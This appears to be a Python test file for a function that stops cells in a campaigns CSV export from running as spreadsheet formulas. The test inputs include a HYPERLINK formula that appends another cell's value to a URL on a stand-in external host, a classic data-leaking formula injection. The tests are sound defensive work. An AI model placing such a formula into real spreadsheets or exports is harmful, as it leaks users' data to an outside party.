"""Cells of GET /campaigns.csv never run as formulas in a spreadsheet (domain.open_data)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.domain.open_data import FORMULA_STARTS, spreadsheet_safe


@pytest.mark.parametrize("title", ['=HYPERLINK("https://x.example/?"&B2,"Details")', "+1+2", "-2+3", "@SUM(A1)",
                                   "\t=1", "\r=1"])
def test_a_formula_becomes_text(title):
    assert spreadsheet_safe(title) == "'" + title


@pytest.mark.parametrize("cell", ["Free school meals", "", "1000", "2026-12-01T12:00:00Z", "'quoted", " =1"])
def test_ordinary_cells_are_left_alone(cell):
    assert spreadsheet_safe(cell) == cell


def test_numbers_and_nothing_are_written_as_text():
    assert (spreadsheet_safe(1200), spreadsheet_safe(None), spreadsheet_safe(-5)) == ("1200", "", "'-5")


@given(st.text())
def test_no_cell_starts_a_formula_and_nothing_is_lost(text):
    safe = spreadsheet_safe(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (text, "'" + text)
    assert (safe != text) == text.startswith(FORMULA_STARTS)


@given(st.sampled_from(FORMULA_STARTS), st.text())
def test_every_dangerous_start_is_quoted(start, rest):
    assert spreadsheet_safe(start + rest) == "'" + start + rest
